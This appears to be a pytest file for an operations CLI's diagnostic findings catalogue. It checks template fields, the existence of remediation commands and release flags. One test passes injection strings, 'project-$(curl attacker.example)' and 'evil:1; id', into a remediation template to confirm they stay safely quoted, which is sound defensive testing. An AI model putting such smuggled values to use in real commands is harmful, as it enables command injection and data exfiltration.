"""The catalogue of findings against the code that notes them: nothing is named in vain, nothing stays unfilled."""

import ast
import re
import shlex
from string import Formatter

import pytest
import typer
from typer.core import TyperGroup

from ops.cli.app import build
from ops.doctor.causes import CATALOGUE, NO_EGRESS, Cause, Reason
from ops.doctor.finding import FINDINGS, Known, Remediation
from tests.conftest import ROOT

_OPTIONS = {"evidence", "first", "then", "level", "fix"}
# Found of every way of packets by the same function, and without notes.
_ELSEWHERE = {NO_EGRESS, "load-balancer-cut-off", "edge-cut-off", "database-cut-off", "fault-injected"}


def fields(known: Known) -> set[str]:
    texts = [known.summary, *(text for it in known.remediations for text in (it.what, it.command))]
    return {name for text in texts for _, name, _, _ in Formatter().parse(text) if name} - {"env"}


def given() -> dict[str, set[str]]:
    """By finding what the code fills in."""
    keywords: dict[str, set[str]] = {}
    for file in sorted((ROOT / "ops/doctor").glob("*.py")):
        for call in ast.walk(ast.parse(file.read_text())):
            if isinstance(call, ast.Call) and isinstance(call.func, ast.Attribute) and call.func.attr == "add_finding":
                words = {str(it.value) for it in ast.walk(call.args[0]) if isinstance(it, ast.Constant)} & set(FINDINGS)
                keywords |= {word: {str(it.arg) for it in call.keywords} - _OPTIONS for word in words}
    return keywords


def test_every_finding_is_noted_with_what_it_names() -> None:
    assert given() | {word: set() for word in _ELSEWHERE} == {word: fields(known) for word, known in FINDINGS.items()}


_OF_NO_ENVIRONMENT = {"hannibal exercise clear", "hannibal image --help"}  # the embedded AWS's faults, and a help page
_KNOWN: tuple[Known | Cause | Reason, ...] = (
    *FINDINGS.values(),
    *CATALOGUE.stopped,
    CATALOGUE.secret_withdrawn,
    CATALOGUE.unknown,
    CATALOGUE.missing_variable,
    *CATALOGUE.printed,
    *CATALOGUE.releases.values(),
    CATALOGUE.unknown_release,
)
# Corrected images, and what was to be released in good order, wait until no alarm is in ALARM.
_UNHURRIED = (FINDINGS["release-stopped"], *CATALOGUE.releases.values(), CATALOGUE.unknown_release)
_LINES = {line.strip() for known in _KNOWN for it in known.remediations for line in re.split("&&|;", it.command)}


@pytest.mark.parametrize("line", sorted(it for it in _LINES - _OF_NO_ENVIRONMENT if it.startswith("hannibal ")))
def test_every_command_exists_and_is_for_the_environment(line: str) -> None:
    command, (_, *words) = typer.main.get_command(build()), shlex.split(line.partition(" -- ")[0])
    while isinstance(command, TyperGroup) and words[0] != "--env":
        command = command.commands[words.pop(0)]
    options = {name for parameter in command.params for name in parameter.opts}
    assert {"--env"} <= {word for word in words if word.startswith("--")} <= options


def test_a_name_from_outside_is_one_word_of_a_command() -> None:
    """An operator copies it into a shell."""
    asked = Remediation("enable {alarms}", "aws x --alarm-names {alarms} --image {image}")
    names = ("project-5xx", "project-$(curl attacker.example)")
    command = asked.filled({"alarms": names, "image": "evil:1; id"}).command
    assert shlex.split(command) == ["aws", "x", "--alarm-names", *names, "--image", "evil:1; id"]


@pytest.mark.parametrize(
    "command",
    sorted(
        it.command
        for known in _KNOWN
        if known not in _UNHURRIED
        for it in known.remediations
        if "hannibal release " in it.command and "--wait" not in it.command
    ),
)
def test_a_release_that_repairs_is_accepted_while_tasks_are_missing_or_alarms_are_raised(command: str) -> None:
    """A release is refused then, and these are advised in just that state."""
    assert "--ignore-alarms" in command
